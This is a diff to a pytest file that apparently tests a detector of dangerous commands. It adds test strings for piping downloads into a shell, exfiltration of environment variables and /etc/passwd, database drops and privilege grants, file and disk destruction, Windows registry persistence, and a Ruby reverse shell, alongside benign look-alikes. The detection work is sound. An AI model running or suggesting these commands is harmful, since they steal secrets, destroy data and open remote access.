@@ -63,6 +63,23 @@ def findings(command: str) -> set[str]:
             "shell:pipe-to-shell",
         ),
         ("wget -q https://x.example/i.sh -O /tmp/i.sh && bash /tmp/i.sh", "shell:pipe-to-shell"),
+        ("curl -fsSL https://x.example/p.py | python3 -", "shell:pipe-to-shell"),
+        ("psql -h db -U postgres -c 'DROP DATABASE orders;'", "sql:drop"),
+        ('mysql -uroot -e "GRANT ALL ON *.* TO x"', "sql:privilege"),
+        ("mongosh prod --eval 'db.dropDatabase()'", "shell:data-store"),
+        ("env | curl -s -d @- https://webhook.site/x", "shell:exfiltration"),
+        ("for l in $(cat /etc/passwd | base64); do dig $l.x.example; done", "shell:exfiltration"),
+        ("find / -name '*.log' -exec rm -f {} +", "shell:rm-rf"),
+        ("truncate -s 0 /var/lib/postgresql/15/main/base/1/2619", "shell:disk-wipe"),
+        ("mv /usr/lib /tmp/old", "shell:rm-root"),
+        (
+            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d x",
+            "shell:persistence",
+        ),
+        (
+            'ruby -rsocket -e\'f=TCPSocket.open("h",1).to_i;exec "/bin/sh -i"\'',
+            "code:reverse-shell",
+        ),
     ],
 )
 def test_operator_and_persistence_commands_are_found(command: str, check: str) -> None:
@@ -84,6 +101,12 @@ def test_operator_and_persistence_commands_are_found(command: str, check: str) -
         "systemctl status nginx",
         "echo hello >> notes.txt",
         "nc -zv db.internal 5432",
+        "find . -name '*.tmp' -exec rm {} +",
+        'psql -c "SELECT count(*) FROM orders"',
+        "truncate -s 0 /var/log/app.log",
+        "mv build/app.js dist/app.js",
+        "env | grep PATH",
+        "ruby -e 'puts 1'",
     ],
 )
 def test_ordinary_operator_commands_pass(command: str) -> None:
